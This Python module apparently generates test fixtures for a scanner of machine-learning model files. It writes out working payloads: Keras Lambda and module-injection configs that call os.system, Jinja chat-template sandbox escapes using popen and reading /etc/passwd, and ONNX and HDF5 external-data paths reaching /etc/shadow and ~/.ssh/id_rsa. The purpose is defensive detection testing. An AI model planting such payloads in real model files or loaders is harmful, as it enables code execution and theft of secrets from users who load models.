"""Formats beside pickle: Keras, ONNX, GGUF, SavedModel, NeMo, MAR, MLflow, skops, sentence-transformers, configs, YAML,
templates, executables, safetensors headers."""
import base64
import io
import json
import marshal
import struct

from .mal_pickle import od, tensor
from .ops import ECHO, PYECHO, C, G, evil, pk
from . import zips as Z
from .zips import Entry as E, build

LAMBDA = base64.b64encode(marshal.dumps(compile("(lambda x: __import__('os').system('echo loadlint-test'))", "<lambda>", "eval").co_consts[0])).decode()


# --- protobuf
def pv(n):
    return Z.vint(n & 0xFFFFFFFFFFFFFFFF)


def pf(field, v):
    if isinstance(v, int):
        return pv(field << 3) + pv(v)
    if isinstance(v, str):
        v = v.encode()
    return pv(field << 3 | 2) + pv(len(v)) + v


def lambda_layer(style, name="lambda_1"):
    if style == "k3":
        fn = {"class_name": "__lambda__", "config": {"code": LAMBDA, "defaults": None, "closure": None}}
        return {"module": "keras.layers", "class_name": "Lambda", "config": {"name": name, "trainable": True, "function": fn, "arguments": {}}, "registered_name": None, "build_config": {"input_shape": [None, 4]}}
    if style == "k2":
        return {"class_name": "Lambda", "config": {"name": name, "trainable": True, "dtype": "float32", "function": {"class_name": "__tuple__", "items": [LAMBDA + "\n", None, None]}, "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw", "arguments": {}}}
    if style == "k2_list":
        return {"class_name": "Lambda", "config": {"name": name, "function": [LAMBDA + "\n", None, None], "function_type": "lambda"}}
    if style == "named":
        return {"class_name": "Lambda", "config": {"name": name, "function": "system", "function_type": "function", "module": "os"}}
    return {"module": "keras.layers", "class_name": "Lambda", "config": {"name": name, "function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}}}


INPUT = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "in"}, "registered_name": None}
DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu", "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None}}, "registered_name": None}


def seq(*layers, **more):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "trainable": True, "layers": [INPUT, *layers]}, "registered_name": None, "build_config": {"input_shape": [None, 4]}, **more}


def h5_bytes(attrs=None, datasets=None, fn=None):
    import h5py
    b = io.BytesIO()
    with h5py.File(b, "w") as f:
        for k, v in (attrs or {}).items():
            f.attrs[k] = v
        for k, v in (datasets or {}).items():
            f.create_dataset(k, data=v)
        if fn:
            fn(f)
    return b.getvalue()


def keras_zip(cfg, extra=(), weights=True, meta=True, method=0):
    es = [E("metadata.json", json.dumps({"keras_version": "3.5.0", "date_saved": "2025-01-01@00:00:00"}).encode(), method)] if meta else []
    es.append(E("config.json", json.dumps(cfg).encode() if not isinstance(cfg, bytes) else cfg, method))
    if weights:
        es.append(E("model.weights.h5", h5_bytes(datasets={"layers/dense/vars/0": [[0.0, 1.0]]}), 0))
    return build(es + list(extra))


def keras_files(S):
    def a(name, data, adv="", note="", tech="keras"):
        S.add("malicious", name, data, tech, adv, note)
    for st in ("k3", "k2", "k2_list", "named", "fn"):
        a(f"keras_lambda_{st}.keras", keras_zip(seq(DENSE, lambda_layer(st))), "", f"Lambda, style {st}", "keras-lambda")
        a(f"keras_lambda_{st}.h5", h5_bytes({"model_config": json.dumps(seq(DENSE, lambda_layer(st))), "keras_version": "2.15.0", "backend": "tensorflow"}), "CVE-2025-9905", f"Lambda, style {st}", "keras-lambda")
    nested = {"module": "keras", "class_name": "Functional", "config": {"name": "m", "layers": [INPUT, seq(DENSE, seq(lambda_layer("k3")))]}}
    a("keras_lambda_nested.keras", keras_zip(nested), "HF PoC", "Lambda two models deep", "keras-lambda")
    a("keras_lambda_nested.h5", h5_bytes({"model_config": json.dumps(nested)}), "HF PoC", "", "keras-lambda")
    wrap = {"module": "keras.layers", "class_name": "TimeDistributed", "config": {"name": "td", "layer": lambda_layer("k3")}}
    bidir = {"module": "keras.layers", "class_name": "Bidirectional", "config": {"name": "b", "layer": {"module": "keras.layers", "class_name": "RNN", "config": {"cell": lambda_layer("k2")}}}}
    a("keras_lambda_wrapped.keras", keras_zip(seq(wrap)), "HF PoC", "inside TimeDistributed", "keras-lambda")
    a("keras_lambda_wrapped.h5", h5_bytes({"model_config": json.dumps(seq(bidir))}), "HF PoC", "inside Bidirectional", "keras-lambda")
    a("keras_lambda_activation.keras", keras_zip(seq({**DENSE, "config": {**DENSE["config"], "activation": {"class_name": "__lambda__", "config": {"code": LAMBDA, "defaults": None, "closure": None}}}})), "", "activation is a lambda", "keras-lambda")
    a("keras_lambda_initializer.keras", keras_zip(seq({**DENSE, "config": {**DENSE["config"], "kernel_initializer": {"class_name": "__lambda__", "config": {"code": LAMBDA}}}})), "", "", "keras-lambda")
    a("keras_compile_loss.keras", keras_zip(seq(DENSE, compile_config={"optimizer": "adam", "loss": {"class_name": "__lambda__", "config": {"code": LAMBDA, "defaults": None, "closure": None}}, "metrics": None})), "HF PoC", "code in compile_config", "keras-compile")
    a("keras_compile_fn.keras", keras_zip(seq(DENSE, compile_config={"optimizer": {"module": "os", "class_name": "system", "config": ECHO, "registered_name": "system"}, "loss": "mse"})), "HF PoC", "", "keras-compile")
    a("keras_compile_metrics.h5", h5_bytes({"model_config": json.dumps(seq(DENSE)), "training_config": json.dumps({"loss": "mse", "metrics": [{"class_name": "__lambda__", "config": {"code": LAMBDA}}]})}), "HF PoC", "training_config", "keras-compile")
    a("keras_training_config_lambda.h5", h5_bytes({"model_config": json.dumps(seq(DENSE)), "training_config": json.dumps({"optimizer_config": lambda_layer("k2"), "loss": "mse"})}), "", "", "keras-compile")
    mods = [("os", "function", "system"), ("builtins", "function", "exec"), ("subprocess", "function", "check_output"), ("subprocess", "Popen", {"args": "echo"}), ("keras.src.utils.python_utils", "function", "func_load"), ("runpy", "function", "run_path"), ("pip", "function", "main"), ("ctypes", "CDLL", {"name": "/tmp/x.so"}), ("importlib", "function", "import_module"), ("evil_pkg.layers", "Pwn", {"x": 1})]
    for i, (m, c, cfg) in enumerate(mods):
        ly = {"module": m, "class_name": c, "config": cfg, "registered_name": str(cfg) if c == "function" else c, "inbound_nodes": [{"args": [ECHO], "kwargs": {}}], "name": "x"}
        f = {"module": "keras", "class_name": "Functional", "config": {"name": "m", "layers": [INPUT, ly], "input_layers": [["in", 0, 0]], "output_layers": [["x", 0, 0]]}}
        a(f"keras_module_{i}.keras", keras_zip(f, method=8 * (i % 2)), "CVE-2025-1550", f"module {m}", "keras-module")
        if i < 5:
            a(f"keras_module_{i}.h5", h5_bytes({"model_config": json.dumps(f)}), "CVE-2025-1550 class", f"module {m}", "keras-module")
    gf = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file", "name": "g", "build_config": None, "inbound_nodes": [{"args": [], "kwargs": {"fname": "x", "origin": "http://127.0.0.1:9/x.tar.gz", "extract": True}}]}
    for i, m in enumerate(("keras.utils", "keras.src.utils.file_utils", "keras.src.utils", "tensorflow.keras.utils", "keras._tf_keras.keras.utils")):
        a(f"keras_get_file_{i}.keras", keras_zip({"module": "keras", "class_name": "Functional", "config": {"name": "m", "layers": [INPUT, {**gf, "module": m}]}}), "CVE-2025-8747", m, "keras-get_file")
    a("keras_get_file.h5", h5_bytes({"model_config": json.dumps({"class_name": "Functional", "config": {"layers": [gf]}})}), "CVE-2025-8747", "", "keras-get_file")
    fnl = lambda m, n: {"module": m, "class_name": "function", "config": n, "registered_name": n, "name": "f", "inbound_nodes": [{"args": ["/tmp/x"], "kwargs": {}}]}
    for i, (m, n, adv) in enumerate((("keras.models", "load_model", "CVE-2025-8747 class"), ("keras.saving", "load_model", "CVE-2025-8747 class"), ("keras.config", "enable_unsafe_deserialization", "CVE-2025-9906"), ("keras.src.utils.file_utils", "extract_archive", "CVE-2025-12060 class"), ("keras.utils", "save_img", ""), ("keras.saving", "deserialize_keras_object", ""), ("keras.src.saving.serialization_lib", "enable_unsafe_deserialization", "CVE-2025-9906"), ("keras.utils", "load_img", ""))):
        a(f"keras_function_{i}.keras", keras_zip({"module": "keras", "class_name": "Functional", "config": {"name": "m", "layers": [INPUT, fnl(m, n)]}}), adv, f"{m}.{n}", "keras-function")
    tm = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "t", "module": base64.b64encode(build(Z.torch_zip(evil(2)))).decode()}, "registered_name": None}
    a("keras_torch_module.keras", keras_zip(seq(tm)), "HF PoC", "TorchModuleWrapper carries a pickle", "keras-torchmodule")
    a("keras_torch_module_legacy.keras", keras_zip(seq({**tm, "module": "keras.src.utils.torch_utils", "config": {"module": base64.b64encode(evil(2)).decode()}})), "HF PoC", "", "keras-torchmodule")
    a("keras_torch_module_latin.keras", keras_zip(seq({**tm, "config": {"module": evil(2).decode("latin1")}})), "HF PoC", "", "keras-torchmodule")
    a("keras_torch_module.h5", h5_bytes({"model_config": json.dumps(seq(tm))}), "HF PoC", "", "keras-torchmodule")
    tf = {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "t", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"}, "registered_name": None}
    a("keras_tfsm.keras", keras_zip(seq(tf)), "HF PoC CVE-2026", "TFSMLayer loads a SavedModel", "keras-tfsm")
    a("keras_tfsm_nested.keras", keras_zip(seq(seq(tf))), "HF PoC", "", "keras-tfsm")
    a("keras_tfsm.h5", h5_bytes({"model_config": json.dumps(seq(tf))}), "HF PoC", "", "keras-tfsm")
    sl = {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "s", "vocabulary": "/etc/passwd", "max_tokens": None}, "registered_name": None}
    a("keras_stringlookup_file.keras", keras_zip(seq(sl)), "CVE-2025-12058", "vocabulary is a local file", "keras-vocab")
    a("keras_stringlookup_url.keras", keras_zip(seq({**sl, "config": {"vocabulary": "http://127.0.0.1:9/v"}})), "CVE-2025-12058", "", "keras-vocab")
    a("keras_textvectorization.h5", h5_bytes({"model_config": json.dumps(seq({**sl, "class_name": "TextVectorization", "config": {"vocabulary": "/etc/shadow"}}))}), "CVE-2025-12058", "", "keras-vocab")
    a("keras_config_dup.keras", keras_zip(seq(DENSE), extra=[E("config.json", json.dumps(seq(lambda_layer("k3"))).encode())]), "", "duplicate config.json", "keras-zip")
    a("keras_config_unlisted_local_name.keras", build([E("config.json", json.dumps(seq(lambda_layer("k3"))).encode(), lname=b"config.txt")]), "", "", "keras-zip")
    a("keras_deflated.keras", keras_zip(seq(lambda_layer("k3")), method=8), "", "", "keras-lambda")
    a("keras_traversal.keras", keras_zip(seq(DENSE), extra=[E("../../evil.txt", b"x")]), "", "", "keras-zip")
    a("keras_pickle_asset.keras", keras_zip(seq(DENSE), extra=[E("assets/x.pkl", evil(2))]), "", "", "keras-zip")
    a("keras_escapes.keras", keras_zip(json.dumps(seq(DENSE, lambda_layer("k3"))).replace("Lambda", "\\u004cambda").replace("__lambda__", "\\u005f_lambda__").encode()), "", "JSON escapes in the class name", "keras-lambda")
    a("keras_json_dup_keys.keras", keras_zip(json.dumps(seq(DENSE)).replace('"class_name": "Dense"', '"class_name": "Dense", "class_name": "Lambda", "function": {"class_name": "__lambda__", "config": {"code": "%s"}}' % LAMBDA).encode()), "", "duplicate JSON keys: the last wins", "keras-lambda")
    a("keras_h5_weights_lambda.keras", build([E("config.json", json.dumps(seq(DENSE)).encode()), E("model.weights.h5", h5_bytes({"model_config": json.dumps(seq(lambda_layer("k2")))}))]), "", "the weights file is a whole model", "keras-lambda")
    a("keras_bytes_attr.h5", h5_bytes({"model_config": json.dumps(seq(lambda_layer("k2"))).encode()}), "", "attribute as fixed bytes", "keras-lambda")
    import numpy as np
    import h5py
    a("keras_chunked_config.h5", h5_bytes(fn=lambda f: [f.attrs.create("model_config", np.bytes_(json.dumps(seq(lambda_layer("k2")))), dtype=h5py.string_dtype("ascii", 20000))]), "", "", "keras-lambda")
    a("keras_v2_libver.h5", (lambda b: ([h5py.File(b, "w", libver="latest").attrs.__setitem__("model_config", json.dumps(seq(lambda_layer("k2"))))], b.getvalue())[1])(io.BytesIO()) if False else h5_latest(json.dumps(seq(DENSE, lambda_layer("k2")))), "", "latest file format of HDF5", "keras-lambda")
    a("keras_named.hdf5", h5_bytes({"model_config": json.dumps(seq(lambda_layer("k2")))}), "", "", "keras-lambda")
    a("keras_h5_as_bin.bin", h5_bytes({"model_config": json.dumps(seq(lambda_layer("k2")))}), "", "other extension", "keras-lambda")
    ub = b"\0" * 512 + h5_latest(json.dumps(seq(lambda_layer("k2"))), userblock=512)[512:]
    a("keras_userblock.h5", ub, "", "HDF5 behind a user block of 512 bytes", "keras-lambda")
    a("h5_pickle_userblock.h5", evil(2).ljust(512, b"\0") + ub[512:], "", "a pickle in the user block", "polyglot")
    a("h5_external_link.h5", h5_bytes(fn=lambda f: f.__setitem__("w", h5py.ExternalLink("/etc/passwd", "/x"))), "CVE-2026-1669", "external link", "h5-external")
    a("h5_external_storage.h5", h5_bytes(fn=lambda f: f.create_dataset("w", (16,), "u1", external=[("/etc/passwd", 0, 16)])), "CVE-2026-1669", "dataset stored in another file", "h5-external")

    def vds(f):
        lay = h5py.VirtualLayout((4,), "u1")
        lay[:] = h5py.VirtualSource("/tmp/other.h5", "x", (4,))
        f.create_virtual_dataset("w", lay)
    a("h5_virtual.h5", h5_bytes(fn=vds), "", "virtual dataset over another file", "h5-external")
    a("keras_external_weights.keras", build([E("config.json", json.dumps(seq(DENSE)).encode()), E("model.weights.h5", h5_bytes(fn=lambda f: f.create_dataset("layers/dense/vars/0", (16,), "u1", external=[("/etc/passwd", 0, 16)])))]), "CVE-2026-1669", "", "h5-external")
    a("pytables_attr_pickle.h5", h5_bytes({"TITLE": "", "CLASS": "GROUP", "VERSION": "1.0", "x": np.bytes_(evil(0))}), "", "PyTables unpickles attributes", "h5-pickle")
    a("pytables_object_array.h5", h5_bytes(fn=lambda f: (f.create_dataset("df/block0_values", (1,), h5py.vlen_dtype(np.uint8)), f["df/block0_values"].__setitem__(0, np.frombuffer(evil(2), np.uint8)), f["df/block0_values"].attrs.__setitem__("PSEUDOATOM", "object"))), "", "pandas HDF store, pickled object column", "h5-pickle")
    a("keras_json.json", json.dumps(seq(lambda_layer("k2"))).encode(), "", "model.to_json with a Lambda", "keras-lambda")
    a("keras_yaml.yaml", b"class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n      function: !!python/tuple ['" + LAMBDA.encode() + b"', null, null]\n", "CVE-2021-37678", "", "keras-lambda")
    S.add("suspicious", "keras_custom_object.keras", keras_zip(seq({"module": None, "class_name": "MyLayer", "config": {"units": 3}, "registered_name": "MyPackage>MyLayer"})), "keras-custom", "", "registered custom object")
    S.add("suspicious", "keras_custom_module.keras", keras_zip(seq({"module": "mypackage.layers", "class_name": "MyLayer", "config": {"units": 3}, "registered_name": "MyLayer"})), "keras-custom", "", "class of an unknown module")
    S.add("suspicious", "keras_custom.h5", h5_bytes({"model_config": json.dumps(seq({"class_name": "AttentionWithContext", "config": {"units": 3}}))}), "keras-custom", "", "custom class in h5")


def h5_latest(cfg, userblock=0):
    import os
    import tempfile
    import h5py
    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "x.h5")
        with h5py.File(p, "w", libver="latest", **({"userblock_size": userblock} if userblock else {})) as f:
            f.attrs["model_config"] = cfg
        return open(p, "rb").read()


# --- ONNX
def onnx_tensor(name="w", external=None, raw=b"\0" * 16, **kv):
    t = pf(1, 4) + pf(2, 1) + pf(8, name)
    if external is None:
        return t + pf(9, raw)
    for k, v in {"location": external, **kv}.items():
        t += pf(13, pf(1, k) + pf(2, v))
    return t + pf(14, 1)


def onnx_node(op, domain="", attrs=(), inputs=("x",), outputs=("y",)):
    n = b"".join(pf(1, i) for i in inputs) + b"".join(pf(2, o) for o in outputs) + pf(3, "n") + pf(4, op)
    for at in attrs:
        n += pf(5, at)
    return n + (pf(7, domain) if domain else b"")


def attr_s(name, s):
    return pf(1, name) + pf(4, s) + pf(20, 3)


def attr_t(name, t):
    return pf(1, name) + pf(5, t) + pf(20, 4)


def attr_g(name, g):
    return pf(1, name) + pf(6, g) + pf(20, 5)


def vinfo(n):
    return pf(1, n) + pf(2, pf(1, pf(1, 1) + pf(2, pf(1, pf(1, 4)))))


def graph(nodes, inits=(), sparse=()):
    g = b"".join(pf(1, n) for n in nodes) + pf(2, "g") + b"".join(pf(5, t) for t in inits) + pf(11, vinfo("x")) + pf(12, vinfo("y"))
    return g + b"".join(pf(15, s) for s in sparse)


def model(g, domains=("",), functions=(), meta=(), training=()):
    m = pf(1, 8) + pf(2, "pytorch") + pf(3, "2.0") + pf(7, g) + b"".join(pf(8, (pf(1, d) if d else b"") + pf(2, 17)) for d in domains)
    m += b"".join(pf(14, pf(1, k) + pf(2, v)) for k, v in meta)
    m += b"".join(pf(20, t) for t in training) + b"".join(pf(25, f) for f in functions)
    return m


def onnx_files(S):
    def a(name, data, adv="CVE-2022-25882 CVE-2024-27318", note="", tech="onnx-external"):
        S.add("malicious", name, data, tech, adv, note)
    relu = onnx_node("Relu")
    for i, loc in enumerate(("../../../etc/passwd", "/etc/passwd", "..\\..\\secret.bin", "C:\\Windows\\win.ini", "data/../../../../etc/shadow", "file:///etc/passwd", "~/.ssh/id_rsa", "\\\\host\\share\\x", "./../x.bin", "a/b/../../../x")):
        S.add("suspicious" if loc[:1] in "f~" else "malicious", f"onnx_external_{i}.onnx", model(graph([relu], [onnx_tensor(external=loc)])), "onnx-external", "CVE-2022-25882 CVE-2024-27318", loc)
    a("onnx_external_offset.onnx", model(graph([relu], [onnx_tensor(external="../x.bin", offset="4096", length="16")])))
    a("onnx_external_location_twice.onnx", model(graph([relu], [pf(1, 4) + pf(2, 1) + pf(8, "w") + pf(13, pf(1, "location") + pf(2, "w.bin")) + pf(13, pf(1, "location") + pf(2, "../../x")) + pf(14, 1)])), note="location given twice")
    bad = onnx_tensor(external="../../../etc/passwd")
    a("onnx_external_const_attr.onnx", model(graph([onnx_node("Constant", attrs=[attr_t("value", bad)])])), note="Constant attribute")
    a("onnx_external_subgraph.onnx", model(graph([onnx_node("If", attrs=[attr_g("then_branch", graph([relu], [bad])), attr_g("else_branch", graph([relu]))])])), note="initializer of an If branch")
    a("onnx_external_subgraph_deep.onnx", model(graph([onnx_node("Loop", attrs=[attr_g("body", graph([onnx_node("If", attrs=[attr_g("then_branch", graph([relu], [bad]))])]))])])))
    a("onnx_external_graphs_attr.onnx", model(graph([onnx_node("X", "my.domain", [pf(1, "gs") + pf(11, graph([relu], [bad])) + pf(20, 10)])])), note="list of graphs")
    a("onnx_external_tensors_attr.onnx", model(graph([onnx_node("X", "my.domain", [pf(1, "ts") + pf(10, bad) + pf(20, 9)])])))
    a("onnx_external_function.onnx", model(graph([onnx_node("F", "local")]), ("", "local"), [pf(1, "F") + pf(4, "x") + pf(5, "y") + pf(7, onnx_node("Constant", attrs=[attr_t("value", bad)])) + pf(10, "local")]), note="inside a model-local function")
    a("onnx_external_sparse.onnx", model(graph([relu], sparse=[pf(1, bad) + pf(2, onnx_tensor("i")) + pf(3, 4)])))
    a("onnx_external_training.onnx", model(graph([relu]), training=[pf(1, graph([relu], [bad])) + pf(2, graph([relu]))]))
    for i, (d, op) in enumerate((("ai.onnx.contrib", "PyOp"), ("com.microsoft.pyop", "PyOp"), ("pyopmulti_2", "PyOp"), ("ai.onnx.contrib", "PythonOp"), ("com.microsoft", "PythonOp"), ("", "PyOp"))):
        a(f"onnx_pyop_{i}.onnx", model(graph([onnx_node(op, d, [attr_s("module", "os"), attr_s("class_name", "Pwn"), attr_s("compute", "system"), attr_s("code", PYECHO)])]), ("", d) if d else ("",)), "", f"{d}:{op}", "onnx-python")
    a("onnx_pyop_subgraph.onnx", model(graph([onnx_node("If", attrs=[attr_g("then_branch", graph([onnx_node("PyOp", "ai.onnx.contrib", [attr_s("module", "os")])]))])]), ("", "ai.onnx.contrib")), "", "", "onnx-python")
    a("onnx_epcontext.onnx", model(graph([onnx_node("EPContext", "com.microsoft", [attr_s("ep_cache_context", "../../../tmp/evil.bin"), pf(1, "embed_mode") + pf(3, 0) + pf(20, 2)])]), ("", "com.microsoft")), "", "execution-provider blob outside of the folder", "onnx-external")
    a("onnx_no_extension", model(graph([relu], [bad])), note="no extension")
    a("onnx_in_zip.zip", build([E("m/model.onnx", model(graph([relu], [bad])), 8)]))
    a("onnx_big_prefix.onnx", model(graph([relu], [onnx_tensor("big", raw=b"\0" * 300000), bad])))
    for i, d in enumerate(("my.custom.domain", "com.acme.ops", "evil", "torch.ops.mylib", "pkg.acme.layers")):
        S.add("suspicious", f"onnx_custom_domain_{i}.onnx", model(graph([onnx_node("DoSomething", d)]), ("", d)), "onnx-domain", "", d)
    S.add("suspicious", "onnx_custom_domain_undeclared.onnx", model(graph([onnx_node("Run", "x.y.z")])), "onnx-domain")
    S.add("suspicious", "onnx_meta_url.onnx", model(graph([onnx_node("Foo", "acme")]), ("", "acme"), meta=[("source", "http://127.0.0.1/x")]), "onnx-domain")


# --- GGUF
def gguf(kv, tensors=(), version=3, counts=None, data=b"", align=32):
    def st(s):
        e = s.encode() if isinstance(s, str) else s
        return struct.pack("<Q", len(e)) + e

    def val(v):
        if isinstance(v, bool):
            return struct.pack("<I?", 7, v)
        if isinstance(v, int):
            return struct.pack("<II", 4, v)
        if isinstance(v, float):
            return struct.pack("<If", 6, v)
        if isinstance(v, str):
            return struct.pack("<I", 8) + st(v)
        if isinstance(v, list):
            if v and isinstance(v[0], str):
                return struct.pack("<IIQ", 9, 8, len(v)) + b"".join(st(x) for x in v)
            return struct.pack("<IIQ", 9, 5, len(v)) + b"".join(struct.pack("<i", x) for x in v)
        return v
    h = b"GGUF" + struct.pack("<IQQ", version, (counts or (len(tensors), len(kv)))[0], (counts or (len(tensors), len(kv)))[1])
    for k, v in kv.items():
        h += st(k) + val(v)
    for n, dims, typ, off in tensors:
        h += st(n) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", typ, off)
    return h + b"\0" * (-len(h) % align) + data


BASE = {"general.architecture": "llama", "general.name": "tiny", "llama.block_count": 1, "llama.context_length": 64, "tokenizer.ggml.model": "gpt2", "tokenizer.ggml.tokens": ["a", "b"]}
SSTI = {
    "subclasses": "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('echo loadlint-test').read() }}{% endif %}{% endfor %}",
    "cycler": "{{ cycler.__init__.__globals__.os.popen('echo loadlint-test').read() }}", "lipsum": "{{ lipsum.__globals__['os'].system('echo loadlint-test') }}", "self": "{{ self.__init__.__globals__.__builtins__.__import__('os').system('echo x') }}",
    "attr_hex": "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}", "index": "{{ ''['__class__']['__mro__'][1]['__subclasses__']() }}", "concat": "{% set c = '__cla' ~ 'ss__' %}{{ messages[c]['__in'+'it__']['__glo'+'bals__'] }}",
    "join": "{{ messages|attr(['__','class','__']|join)|attr(['__','base','__']|join) }}", "format": "{{ messages|attr('%s%sclass%s%s'|format('_','_','_','_')) }}", "macro_globals": "{% macro m() %}{% endmacro %}{{ m.__globals__ }}", "range": "{{ range.__class__ }}{{ namespace.__init__.__globals__['__builtins__']['eval']('1+1') }}",
    "config": "{{ config.__class__.__init__.__globals__['os'].environ }}", "request": "{{ request|attr('application')|attr('__globals__')|attr('__getitem__')('__builtins__') }}", "raise_exc": "{{ raise_exception.__globals__['__builtins__']['open']('/etc/passwd').read() }}", "mro": "{{ messages.__class__.__mro__[-1].__subclasses__()[104].__init__.__globals__['sys'].modules['os'].system('echo x') }}",
    "hidden_long": "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' }}{% endfor %}" + "{# padding #}" * 200 + "{% if messages[0].role == 'zz' %}{{ joiner.__init__.__globals__.os.popen('echo x') }}{% endif %}",
    "comment_split": "{{ ''.__class__ }}{# ok #}{{ dict.__base__.__subclasses__() }}", "map_attr": "{{ [messages]|map(attribute='__class__')|list }}{{ [x for x in []] }}" .replace("{{ [x for x in []] }}", "{{ ([messages]|map(attribute='__class__.__base__')|first).__subclasses__() }}"), "reverse": "{% set s='__ssalc__'|reverse %}{{ messages|attr(s)|attr('__base__') }}",
    "set_block": "{% set g %}__globals__{% endset %}{{ lipsum|attr(g) }}", "url_for": "{{ url_for.__globals__.current_app }}", "dict_getattr": "{{ dict(__class__=1)|list|first }}{{ messages|attr(dict(__class__=1)|list|first) }}", "func_globals": "{{ strftime_now.__globals__ }}", "codeobj": "{{ raise_exception.__code__.co_consts }}",
    "include": "{% include '/etc/passwd' %}", "import": "{% import '/tmp/x.j2' as x %}{{ x.run() }}", "extends": "{% extends '../../etc/passwd' %}",
}
CHATML = "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"


def gguf_files(S):
    def a(name, data, adv="CVE-2024-34359", note="", tech="gguf-template"):
        S.add("malicious", name, data, tech, adv, note)
    keys = list(SSTI)
    for i, k in enumerate(keys):
        lab = "suspicious" if k in ("include", "import", "extends") else "malicious"
        S.add(lab, f"gguf_ssti_{k}.gguf", gguf({**BASE, "tokenizer.chat_template": SSTI[k]}), "gguf-template", "CVE-2024-34359", k)
        which = i % 3
        if which == 0:
            S.add(lab, f"tokenizer_ssti_{k}", {"tokenizer_config.json": json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": SSTI[k]})}, "chat-template", "same class", f"{k} in tokenizer_config.json")
        elif which == 1:
            S.add(lab, f"jinja_ssti_{k}", {"config.json": json.dumps({"model_type": "llama"}), "chat_template.jinja": SSTI[k]}, "chat-template", "same class", f"{k} in chat_template.jinja")
        else:
            S.add(lab, f"tokenizer_ssti_named_{k}", {"tokenizer_config.json": json.dumps({"chat_template": [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": SSTI[k]}]})}, "chat-template", "same class", f"{k} in a named template")
    a("gguf_named_template.gguf", gguf({**BASE, "tokenizer.chat_template": CHATML, "tokenizer.chat_templates": ["rag"], "tokenizer.chat_template.rag": SSTI["cycler"]}), "same class", "named template")
    a("gguf_named_template2.gguf", gguf({**BASE, "tokenizer.chat_template": CHATML, "tokenizer.chat_template.tool_use": SSTI["lipsum"]}), "same class")
    a("gguf_v2.gguf", gguf({**BASE, "tokenizer.chat_template": SSTI["mro"]}, version=2))
    a("gguf_dup_key.gguf", gguf({**BASE, "tokenizer.chat_template": CHATML})[:0] + dup_key_gguf())
    a("gguf_no_ext", gguf({**BASE, "tokenizer.chat_template": SSTI["self"]}), "CVE-2024-34359", "no extension")
    a("gguf_with_tensor.gguf", gguf({**BASE, "tokenizer.chat_template": SSTI["index"]}, [("w", (4,), 0, 0)], data=b"\0" * 16))
    S.add("malicious", "chat_templates_dir", {"config.json": "{}", "additional_chat_templates/rag.jinja": SSTI["subclasses"]}, "chat-template", "same class", "additional_chat_templates")
    S.add("malicious", "processor_template", {"chat_template.json": json.dumps({"chat_template": SSTI["cycler"]})}, "chat-template", "same class", "chat_template.json")
    S.add("malicious", "processor_config_template", {"processor_config.json": json.dumps({"processor_class": "X", "chat_template": SSTI["lipsum"]})}, "chat-template", "same class")
    S.add("malicious", "standalone.jinja2", SSTI["subclasses"].encode(), "chat-template", "same class")
    S.add("malicious", "standalone.j2", SSTI["mro"].encode(), "chat-template", "same class")


def dup_key_gguf():
    x = gguf({**BASE, "tokenizer.chat_template": CHATML}, counts=(0, 7))
    e = SSTI["cycler"].encode()
    k = b"tokenizer.chat_template"
    x = x.rstrip(b"\0") + struct.pack("<Q", len(k)) + k + struct.pack("<IQ", 8, len(e)) + e
    return x


# --- TensorFlow
def savedmodel(ops, lib_ops=(), schema=1):
    def node(i, op):
        attrs = b""
        if isinstance(op, tuple):
            op, ats = op
            for k, v in ats.items():
                attrs += pf(5, pf(1, k) + pf(2, pf(2, v)))
        return pf(1, f"n{i}") + pf(2, op) + attrs
    gd = b"".join(pf(1, node(i, o)) for i, o in enumerate(ops)) + pf(4, pf(1, 1087))
    if lib_ops:
        fn = pf(1, pf(1, "__inference_f_1")) + b"".join(pf(3, node(i, o)) for i, o in enumerate(lib_ops))
        gd += pf(2, pf(1, fn))
    used = sorted({o[0] if isinstance(o, tuple) else o for o in list(ops) + list(lib_ops)})
    meta = pf(2, b"".join(pf(1, pf(1, o)) for o in used)) + pf(4, "serve") + pf(5, "2.16.1")
    return pf(1, schema) + pf(2, pf(1, meta) + pf(2, gd))


NORMAL_OPS = ["Placeholder", "VarHandleOp", "ReadVariableOp", "MatMul", "BiasAdd", "Relu", "Const", "StatefulPartitionedCall", "NoOp", "Identity", "SaveV2", "RestoreV2", "ShardedFilename", "MergeV2Checkpoints", "StringJoin"]


def tf_files(S):
    def a(name, data, note="", tech="savedmodel", adv=""):
        S.add("malicious", name, data, tech, adv, note)
    for i, op in enumerate((("PyFunc", {"token": "pyfunc_0"}), "EagerPyFunc", "PyFuncStateless", "WriteFile", "ReadFile", "MatchingFiles", "WholeFileReaderV2", "DeleteFile" if False else "TFRecordReaderV2", "PrintV2" if False else "WriteAudioSummary" if False else "SaveDataset", "LoadDataset")):
        n = op[0] if isinstance(op, tuple) else op
        lab = "malicious" if n in ("PyFunc", "EagerPyFunc", "PyFuncStateless", "WriteFile", "ReadFile") else "suspicious"
        S.add(lab, f"tf_{n}.pb", savedmodel(NORMAL_OPS + [op]), "savedmodel", "", n)
